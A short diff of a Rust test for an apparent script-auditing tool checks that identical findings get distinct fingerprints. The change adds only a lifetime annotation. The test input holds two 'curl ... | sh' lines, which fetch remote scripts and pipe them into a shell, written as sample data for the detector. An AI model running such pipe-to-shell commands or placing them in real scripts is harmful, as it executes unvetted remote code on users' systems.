@@ -216,7 +216,7 @@ fn identical_findings_get_distinct_fingerprints_by_rank() {
     let moved = "\n\ncurl https://a/i.sh | sh\ncurl https://b/i.sh | sh\n";
     let mut g = FileAudit::new("x.sh", moved);
     g.run(Kind::Shell).unwrap();
-    let prints = |a: &FileAudit| {
+    let prints = |a: &FileAudit<'_>| {
         a.findings
             .iter()
             .map(|f| f.fingerprint.clone())
